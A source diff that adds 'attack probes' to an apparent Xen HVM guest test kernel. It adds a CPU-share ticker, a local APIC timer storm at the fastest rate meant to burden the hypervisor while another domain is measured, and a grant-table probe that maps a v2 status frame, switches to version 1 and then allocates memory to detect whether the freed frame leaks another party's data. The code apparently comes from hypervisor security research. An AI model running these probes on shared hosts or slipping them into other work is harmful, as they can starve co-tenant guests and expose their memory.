@@ -21,6 +21,8 @@
 #include <xen/sched.h>
 #include <xen/vcpu.h>
 #include <xen/version.h>
+#include <xen/grant_table.h>
+
 
 void hvmtest_main(uint64_t start_info);
 void hvmtest_upcall(void);
@@ -694,6 +696,114 @@ static void probe_p2meat(const char *cmdline)
         hcall(__HYPERVISOR_memory_op, XENMEM_current_reservation, (uint64_t)(uintptr_t)&(domid_t){ DOMID_SELF }, 0, 0, 0));
 }
 
+/* ---- attack probes (branch atkhvm2) ---- */
+
+static uint64_t rdtsc(void)
+{
+    uint32_t lo, hi;
+    __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
+    return ((uint64_t)hi << 32) | lo;
+}
+#define TSC_CHUNK (1ULL << 31)
+
+/* mode=ticker: count loop iterations per TSC chunk (~1 s), secs= chunks:
+ * the share of the CPU this domain gets while another one storms. */
+static void probe_ticker(const char *cmdline)
+{
+    uint64_t n = hexopt(cmdline, "secs");
+    if (!n)
+        n = 0x20;
+    for (uint64_t c = 0; c < n; c++) {
+        uint64_t t0 = rdtsc(), it = 0;
+        while (rdtsc() - t0 < TSC_CHUNK)
+            it++;
+        say("hvmtest: ticker chunk %lu: %lu iterations", (unsigned long)c, (unsigned long)it);
+    }
+}
+
+/* mode=lapicstorm: the APIC timer at its fastest (periodic, divide by 1,
+ * initial count 1: a 1 ns period), LVT masked so nothing is ever
+ * injected; then phases of ~secs= chunks each: idle wait (baseline),
+ * a spin with IF=1, sti;hlt in a loop. */
+static void probe_lapicstorm(const char *cmdline)
+{
+    volatile uint8_t *apic = (volatile uint8_t *)(uintptr_t)0xfee00000UL;
+    uint64_t n = hexopt(cmdline, "secs");
+    if (!n)
+        n = 5;
+    uint64_t t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK)
+        it++;
+    say("hvmtest: lapicstorm: baseline %lu iterations, timer on next", (unsigned long)it);
+    *(volatile uint32_t *)(apic + 0xf0) = 0x1ff;   /* SVR: enabled */
+    *(volatile uint32_t *)(apic + 0x320) = 0x300f0; /* LVT timer: periodic, masked */
+    *(volatile uint32_t *)(apic + 0x3e0) = 0xb;     /* divide by 1 */
+    *(volatile uint32_t *)(apic + 0x380) = 1;       /* initial count 1 */
+    __asm__ volatile("sti");
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK)
+        it++;
+    say("hvmtest: lapicstorm: spin phase %lu iterations", (unsigned long)it);
+    t0 = rdtsc(), it = 0;
+    while (rdtsc() - t0 < n * TSC_CHUNK) {
+        __asm__ volatile("sti; hlt" ::: "memory");
+        it++;
+    }
+    say("hvmtest: lapicstorm: hlt phase %lu wakeups", (unsigned long)it);
+    __asm__ volatile("cli");
+    *(volatile uint32_t *)(apic + 0x380) = 0;
+    say("hvmtest: lapicstorm: timer off");
+}
+
+/* mode=gntst: a v2 status frame put in this domain's p2m
+ * (XENMAPIDX_grant_table_status), then set_version 1. Xen refuses (or
+ * takes the frame out of the p2m); if the hv frees the frame while it is
+ * still mapped, the guest's page at gfn= shows whoever gets it next: a
+ * populate in a new 2 MiB region makes the hv allocate p2m tables. */
+static void probe_gntst(const char *cmdline)
+{
+    uint64_t g = hexopt(cmdline, "gfn");
+    if (!g)
+        g = 0xe00;
+    struct gnttab_set_version sv = { .version = 2 };
+    long rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst: set_version 2 = %ld (version %u)", rc, sv.version);
+    struct xen_add_to_physmap xatp = { .domid = DOMID_SELF, .space = XENMAPSPACE_grant_table,
+                                       .idx = 0 | XENMAPIDX_grant_table_status, .gpfn = g };
+    rc = hcall(__HYPERVISOR_memory_op, XENMEM_add_to_physmap, (uint64_t)(uintptr_t)&xatp, 0, 0, 0);
+    say("hvmtest: gntst: status frame 0 at gfn %#lx = %ld", (unsigned long)g, rc);
+    volatile uint64_t *pg = (volatile uint64_t *)(uintptr_t)(g << 12);
+    for (int i = 0; i < 512; i++)
+        pg[i] = 0xa5a5a5a5a5a5a5a5ULL;
+    sv.version = 1;
+    rc = hcall(__HYPERVISOR_grant_table_op, GNTTABOP_set_version, (uint64_t)(uintptr_t)&sv, 1, 0, 0);
+    say("hvmtest: gntst: set_version 1 with the status frame mapped = %ld (version %u)", rc, sv.version);
+    uint64_t base = 1ULL << 24;
+    for (uint64_t i = 0; i < 64; i++) {
+        xen_pfn_t x = base + (i << 9);
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &x);
+        long a = hcall(__HYPERVISOR_memory_op, XENMEM_populate_physmap, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+        int changed = 0;
+        for (int k = 0; k < 512; k++)
+            if (pg[k] != 0xa5a5a5a5a5a5a5a5ULL)
+                changed = 1;
+        if (changed) {
+            say("LEAK hvmtest: gntst: after populate #%lu (rc %ld) the freed status frame at gfn %#lx changed:",
+                (unsigned long)i, a, (unsigned long)g);
+            for (int k = 0; k < 512; k++)
+                if (pg[k])
+                    say("hvmtest: gntst:   [%d] = %#lx", k, (unsigned long)pg[k]);
+            return;
+        }
+        if (a == 1) {
+            long d = hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+            (void)d;
+        }
+    }
+    say("hvmtest: gntst: the page at gfn %#lx never changed", (unsigned long)g);
+}
+
 void hvmtest_main(uint64_t start_info)
 {
     const struct hvm_start_info *si = (const struct hvm_start_info *)(uintptr_t)start_info;
@@ -728,6 +838,12 @@ void hvmtest_main(uint64_t start_info)
         probe_dr7hv(cmdline);
     else if (opt_is(cmdline, "mode", "p2meat"))
         probe_p2meat(cmdline);
+    else if (opt_is(cmdline, "mode", "ticker"))
+        probe_ticker(cmdline);
+    else if (opt_is(cmdline, "mode", "lapicstorm"))
+        probe_lapicstorm(cmdline);
+    else if (opt_is(cmdline, "mode", "gntst"))
+        probe_gntst(cmdline);
     else if (opt_is(cmdline, "mode", "triple")) {
         say("hvmtest: triple fault next");
         load_idt(0);
